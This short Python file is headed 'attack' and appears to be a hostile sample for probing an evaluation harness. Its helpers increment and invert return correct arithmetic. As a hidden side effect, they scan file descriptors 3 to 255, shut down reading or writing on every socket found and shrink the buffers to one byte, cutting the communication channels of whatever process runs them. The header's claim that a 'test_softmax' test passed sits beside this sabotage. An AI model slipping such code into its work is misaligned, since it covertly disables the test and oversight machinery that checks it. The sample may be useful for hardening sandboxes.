# /// attack
# title = "shuts its end for reading in one call and for writing in another, and shrinks the buffers to nothing"
# [promise]
# "*" = "any"
# test_softmax = "passed"
# ///

# %%
import socket


def ends():
    for number in range(3, 256):
        try:
            yield socket.socket(fileno=number)
        except OSError:
            continue


def increment(x):
    for end in ends():
        end.shutdown(socket.SHUT_RD)
        end.detach()
    return x + 1


def invert(x):
    for end in ends():
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1)
        end.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        end.shutdown(socket.SHUT_WR)
        end.detach()
    return 1 - x
